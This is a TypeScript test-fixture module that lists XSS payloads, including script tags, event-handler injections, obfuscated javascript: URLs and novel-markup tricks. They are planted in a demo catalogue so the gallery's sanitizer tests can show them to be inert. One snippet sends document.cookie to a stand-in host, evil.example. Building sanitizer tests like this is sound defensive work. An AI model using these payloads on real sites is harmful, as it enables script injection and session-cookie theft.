// Hostile payloads planted in the demo catalogue so the gallery's sanitising is exercised by real data.
// Works 7 and 8 and novel 7 always carry them (in captions; novel 7 also in its text); about 2% of other
// captions and about 1% of other novel texts carry one or two. In the contract because both halves read them: the
// service's generator plants them, the gallery's sanitizer tests prove them inert.

/** HTML that must never execute or navigate when a caption is rendered. */
export const HOSTILE_SNIPPETS: string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '<svg onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
  '<a href=" javascript:alert(1)">leading space</a>',
  '<a href="data:text/html,<script>alert(1)</script>">data url</a>',
  '<div style="background:url(javascript:alert(1))">styled</div>',
  '<math><mi xlink:href="javascript:alert(1)">math</mi></math>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<object data="javascript:alert(1)"></object>',
  '<details open ontoggle=alert(1)>',
  '"><script>alert(1)</script>',
  '<body onload=alert(1)>',
  '<a href="&#106;avascript:alert(1)">entity scheme</a>',
  '<a href="java\tscript:alert(1)">tab in scheme</a>',
  '<img src="x" onerror="fetch(\'https://evil.example/\'+document.cookie)">',
  '<style>body{display:none}</style>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<embed src="javascript:alert(1)">',
  '<a href="vbscript:msgbox(1)">vbscript</a>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<a href="https://www.pixiv.net/" onclick="alert(1)">looks benign</a>',
]

/** Novel-markup lines that a reader must show as text or drop, never run or link. */
export const HOSTILE_NOVEL_MARKUP: string[] = [
  '[[jumpuri:click > javascript:alert(1)]]',
  '[[jumpuri:x > data:text/html,<script>alert(1)</script>]]',
  '[[jumpuri:mixed > JaVaScRiPt:alert(1)]]',
  'ここに<script>alert(1)</script>が紛れ込んでいる。',
  'An image tag <img src=x onerror=alert(1)> sits in the prose.',
  '[chapter:<img src=x onerror=alert(1)>]',
  '[[rb:<b>x</b> > <script>alert(1)</script>]]',
  '[foo:bar] and [unknown tag] and [[nope:thing > here]] stay text.',
]

/** The unterminated ruby goes last in a paragraph: a careless parser swallows the rest of the page. */
export const HOSTILE_UNTERMINATED = '[[rb:abc'
